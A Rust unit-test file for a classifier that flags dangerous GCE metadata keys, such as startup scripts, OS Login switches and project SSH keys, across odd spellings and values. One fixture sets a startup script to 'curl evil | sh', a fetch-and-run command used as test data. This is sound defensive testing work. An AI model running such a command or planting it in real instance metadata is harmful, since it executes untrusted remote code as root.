//! Unit tests of the metadata key classification: every script form, switches with every kind of
//! value, other spellings, project SSH keys with and without the instance's block.

use std::collections::BTreeMap;

use super::*;

fn dangerous(class: &KeyClass) -> bool {
    matches!(class, KeyClass::Dangerous(_))
}

#[test]
fn every_documented_script_key_is_dangerous_on_the_instance_and_in_the_project() {
    let keys = [
        "startup-script",
        "startup-script-url",
        "startup-script-sh",
        "startup-script-ps1",
        "shutdown-script",
        "shutdown-script-url",
        "windows-startup-script-ps1",
        "windows-startup-script-cmd",
        "windows-startup-script-bat",
        "windows-startup-script-url",
        "windows-shutdown-script-ps1",
        "windows-shutdown-script-cmd",
        "windows-shutdown-script-bat",
        "windows-shutdown-script-url",
        "sysprep-specialize-script-ps1",
        "sysprep-specialize-script-cmd",
        "sysprep-specialize-script-bat",
        "sysprep-specialize-script-url",
        "sysprep-oobe-script-ps1",
        "gce-container-declaration",
        "google-container-manifest",
        "user-data-encoding",
        "windows-keys",
        "osconfig-disabled-features",
    ];
    for key in keys {
        for value in ["", "FALSE", "echo hi"] {
            assert!(
                dangerous(&classify_instance_key(key, value)),
                "instance {key}={value:?}"
            );
            assert!(
                dangerous(&classify_project_key(key, value, true)),
                "project {key}={value:?}"
            );
        }
    }
}

#[test]
fn other_spellings_of_known_keys_are_dangerous() {
    for key in [
        "Startup-Script",
        "STARTUP-SCRIPT-URL",
        "Enable-OSLogin",
        "SSH-KEYS",
        "sshkeys",
        "SSHKEYS",
        "Block-Project-SSH-Keys",
        "User-Data",
        "Serial-Port-Enable",
        "Google-Logging-Enabled",
        "Gce-Container-Declaration",
    ] {
        let instance = classify_instance_key(key, "FALSE");
        assert!(dangerous(&instance), "instance {key}: {instance:?}");
        let project = classify_project_key(key, "FALSE", true);
        assert!(dangerous(&project), "project {key}: {project:?}");
    }
    // Go folds the long s and the Kelvin sign; such keys are not GCE names anyway.
    for key in ["ſsh-keys", "\u{212A}ey", "startup script", "a/b", ""] {
        assert!(dangerous(&classify_instance_key(key, "x")), "{key:?}");
        assert!(dangerous(&classify_project_key(key, "x", true)), "{key:?}");
    }
}

#[test]
fn a_switch_passes_only_when_clearly_off() {
    for key in [
        "enable-oslogin",
        "enable-oslogin-2fa",
        "enable-oslogin-sk",
        "enable-osconfig",
        "enable-os-inventory",
        "enable-guest-attributes",
        "serial-port-enable",
        "serial-port-logging-enable",
        "enable-windows-ssh",
    ] {
        for off in ["FALSE", "false", "False"] {
            assert_eq!(
                classify_instance_key(key, off),
                KeyClass::Harmless,
                "{key}={off}"
            );
            assert_eq!(
                classify_project_key(key, off, false),
                KeyClass::Harmless,
                "{key}={off}"
            );
        }
        for on in [
            "TRUE", "true", "True", "True ", " FALSE", "FALSE\n", "1", "0", "yes", "on", "off",
            "no", "n", "f", "fAlSe", "", "enabled",
        ] {
            assert!(
                dangerous(&classify_instance_key(key, on)),
                "instance {key}={on:?}"
            );
            assert!(
                dangerous(&classify_project_key(key, on, true)),
                "project {key}={on:?}"
            );
        }
    }
}

#[test]
fn the_reason_says_what_the_key_does_and_shows_the_value() {
    let KeyClass::Dangerous(reason) = classify_project_key("enable-oslogin", "True ", false) else {
        panic!("enable-oslogin=True  is not dangerous");
    };
    assert!(reason.contains("\"True \""), "{reason}");
    assert!(reason.contains("OS Login"), "{reason}");
    let KeyClass::Dangerous(reason) = classify_instance_key("startup-script", "x") else {
        panic!("startup-script is not dangerous");
    };
    assert!(reason.contains("root"), "{reason}");
}

#[test]
fn project_ssh_keys_are_dangerous_unless_the_instance_blocks_them() {
    for key in ["ssh-keys", "sshKeys"] {
        assert!(dangerous(&classify_project_key(
            key,
            "bob:ssh-ed25519 AAAA",
            false
        )));
        assert_eq!(
            classify_project_key(key, "bob:ssh-ed25519 AAAA", true),
            KeyClass::Harmless
        );
        // On the instance they are never acceptable.
        assert!(dangerous(&classify_instance_key(
            key,
            "bob:ssh-ed25519 AAAA"
        )));
    }
}

#[test]
fn blocking_needs_the_exact_key_clearly_on_and_no_other_spelling() {
    let meta = |pairs: &[(&str, &str)]| -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    };
    assert!(blocks_project_ssh_keys(&meta(&[(
        "block-project-ssh-keys",
        "TRUE"
    )])));
    assert!(blocks_project_ssh_keys(&meta(&[(
        "block-project-ssh-keys",
        "true"
    )])));
    for value in ["yes", "1", "on", " TRUE", "TRUE ", "", "FALSE", "t"] {
        assert!(
            !blocks_project_ssh_keys(&meta(&[("block-project-ssh-keys", value)])),
            "{value:?}"
        );
    }
    assert!(!blocks_project_ssh_keys(&meta(&[])));
    assert!(!blocks_project_ssh_keys(&meta(&[
        ("block-project-ssh-keys", "TRUE"),
        ("Block-Project-SSH-Keys", "false"),
    ])));
}

#[test]
fn known_harmless_keys_pass_and_unknown_keys_are_unknown() {
    for key in [
        "google-compute-default-region",
        "google-compute-default-zone",
        "google-logging-enabled",
        "google-monitoring-enabled",
        "block-project-ssh-keys",
        "cos-update-strategy",
    ] {
        assert_eq!(
            classify_project_key(key, "anything", false),
            KeyClass::Harmless
        );
        assert_eq!(classify_instance_key(key, "anything"), KeyClass::Harmless);
    }
    assert_eq!(
        classify_project_key("disable-legacy-endpoints", "TRUE", false),
        KeyClass::Harmless
    );
    assert!(dangerous(&classify_project_key(
        "disable-legacy-endpoints",
        "FALSE",
        false
    )));
    assert_eq!(
        classify_project_key("my-team-label", "x", false),
        KeyClass::Unknown
    );
    assert_eq!(
        classify_instance_key("my-team-label", "x"),
        KeyClass::Unknown
    );
}

#[test]
fn user_data_is_pinned_on_the_instance_but_dangerous_in_the_project() {
    assert_eq!(
        classify_instance_key("user-data", "#cloud-config"),
        KeyClass::Harmless
    );
    assert!(dangerous(&classify_project_key(
        "user-data",
        "#cloud-config",
        true
    )));
}

#[test]
fn instance_findings_name_each_dangerous_key_and_never_approvable_judges_the_name() {
    let metadata: BTreeMap<String, String> = [
        ("startup-script", "curl evil | sh"),
        ("enable-oslogin", "FALSE"),
        ("enable-osconfig", "TRUE"),
        ("block-project-ssh-keys", "TRUE"),
        ("team", "blue"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect();
    let keys: Vec<String> = instance_findings(&metadata)
        .into_iter()
        .map(|f| f.key)
        .collect();
    assert_eq!(keys, ["enable-osconfig", "startup-script"]);

    assert!(never_approvable("startup-script").is_some());
    assert!(never_approvable("Startup-Script").is_some());
    assert!(never_approvable("enable-oslogin").is_some());
    assert!(never_approvable("user-data-encoding").is_some());
    assert!(never_approvable("team").is_none());
    assert!(never_approvable("google-logging-enabled").is_none());
}
